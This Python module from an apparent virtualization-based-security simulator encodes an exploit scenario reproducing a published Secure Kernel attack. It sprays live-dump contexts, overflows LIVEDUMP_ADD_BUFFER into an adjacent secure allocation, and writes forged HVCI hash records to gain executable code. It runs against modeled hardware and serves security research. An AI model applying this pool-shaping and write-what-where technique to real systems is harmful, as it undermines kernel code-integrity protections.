"""A8-LIVEDUMP: the published chain's write primitive, LIVEDUMP_ADD_BUFFER, after pool shaping
(Amar & King, "Breaking VSM by Attacking SecureKernel", Black Hat USA 2020: "pool shaping with
CREATE_SECURE_IMAGE/LIVEDUMP_START allocations → LIVEDUMP_ADD_BUFFER write-what-where";
vbs-internals §6 A8).

K0 fills the holes of the Secure Kernel's small-object pool with live-dump contexts, then takes one
more context and, right after it, a secure allocation, so that the allocation's object body is the
pool block after the context.  It adds a buffer to the context at the slot one past its last: the
unfixed SK writes the descriptor there — the MDL's StartVa and ByteCount, which the attacker chose
— over the allocation's first fields, where its buffer is and how big.  FILL_SECURE_ALLOCATION then
writes the attacker's bytes where the attacker said, checked against the forged size: the forged
HVCI hash record of A8 lands in the SK's records, and under HVCI the SK makes the attacker's
patched page executable.  How LIVEDUMP_ADD_BUFFER really went wrong is not public; the model's
reading is in :mod:`vbsim.sk.services.livedump`.

The attacker learns the target's SK address from the SK image's symbols (the model's VTL1 has no
address randomisation; Amar & King had an information leak for it) and the pool's layout from
its allocator (first free block): planning, host side; every step runs as K0 through secure calls.
"""

from __future__ import annotations

from typing import Any

from vbsim.attacks.catalogue.a03_a14_memory_code_dma import (
    FORGED_LENGTH,
    ONLY_LEGACY,
    _make_executable_and_run,
    _overflow_source,
    _prepare,
    _statuses,
    sk_records_forged,
)
from vbsim.attacks.catalogue.a15_a20_boot_and_trustlets import needs_vbs, nt_of
from vbsim.attacks.context import AttackContext
from vbsim.attacks.model import Capability, Scenario
from vbsim.hw.cpu import Cpu
from vbsim.hw.x86 import PAGE_SIZE
from vbsim.nt import kdp as ntkdp
from vbsim.nt.layouts import mdl_bytes
from vbsim.ntstatus import NtStatus
from vbsim.sk.layouts import LiveDump
from vbsim.sk.sscn import Service

#: Contexts taken first to fill the holes earlier frees left in the pool (more than it has).
SPRAY = 24


def _shape_and_write(cpu: Cpu, target_va: int) -> list[Any]:
    """K0: shape the pool, overwrite the adjacent allocation's VA and size through the context's
    out-of-range slot, then fill the allocation (now pointing at ``target_va``) with the forged
    records and run the follow-on."""
    nt = nt_of(cpu)
    assert nt.vsl is not None
    prepared = _prepare(cpu)
    spray = [nt.vsl.call(cpu, Service.LIVEDUMP_START) for _ in range(SPRAY)]
    status, out = nt.vsl.call(cpu, Service.LIVEDUMP_START)
    if status != NtStatus.SUCCESS or not out:
        return [status]
    context = out[0]
    status, allocation = ntkdp.create_secure_allocation(nt, cpu, PAGE_SIZE)
    if status != NtStatus.SUCCESS:
        return [status]
    # The descriptor's StartVa and ByteCount become the allocation's VA and size (ByteOffset 0
    # is the size's high half).
    mdl = mdl_bytes([], FORGED_LENGTH, 0, target_va)
    mdl_va, mdl_gpa = nt.alloc_kernel_page(cpu)
    cpu.write(mdl_va, mdl)
    status, _ = nt.vsl.call(
        cpu, Service.LIVEDUMP_ADD_BUFFER, context, LiveDump.SLOTS, mdl_va, mdl_gpa >> 12
    )
    statuses: list[Any] = [status]
    source = _overflow_source(nt, cpu, prepared.forged)[1:]  # the page of forged bytes
    mdl_va, mdl_pfn = ntkdp.build_mdl(nt, cpu, source, FORGED_LENGTH)
    statuses.append(ntkdp.fill_secure_allocation_raw(nt, cpu, allocation, 0, mdl_va, mdl_pfn))
    statuses.append(_make_executable_and_run(cpu, prepared))
    for status, out in [*spray, (NtStatus.SUCCESS, [context])]:
        if status == NtStatus.SUCCESS and out:
            nt.vsl.call(cpu, Service.LIVEDUMP_ABORT, out[0])
    return [*statuses, prepared.forged]


def _steps(ctx: AttackContext) -> None:
    sk = ctx.booted.sk
    assert sk is not None
    *statuses, forged = ctx.kernel(_shape_and_write, sk.hvci.hashes_va)
    ctx.notes.update(statuses=_statuses(statuses[:-1]), follow_on=statuses[-1], forged=forged)


A8_LIVEDUMP = Scenario(
    id="A8-LIVEDUMP",
    title="Pool shaping, then LIVEDUMP_ADD_BUFFER past its context: write-what-where in the SK",
    source="Amar & King, 'Breaking VSM by attacking SecureKernel', Black Hat USA 2020 (the "
    "chain: pool shaping with CREATE_SECURE_IMAGE/LIVEDUMP_START, LIVEDUMP_ADD_BUFFER as a "
    "write-what-where); vbs-internals §2.4 (LIVEDUMP_* 47-53 / 53-59), §6 A8",
    capability=Capability.K0,
    goal="SK memory changes: HVCI's validated-hash records hold a record the attacker forged, "
    "written through a secure allocation whose VA and size the live-dump descriptor replaced",
    expected=ONLY_LEGACY,
    expected_why="the fixed Secure Kernel refuses a buffer slot outside the context (and "
    "captures the MDL, checking its PFNs); the legacy-2019 one writes the descriptor where the "
    "slot says, over the next pool block. The slot overflow is the model's reading of a "
    "write-what-where the record names but does not describe (sk.services.livedump).",
    steps=_steps,
    goal_met=sk_records_forged,
    applicable=needs_vbs,
)

SCENARIOS = [A8_LIVEDUMP]
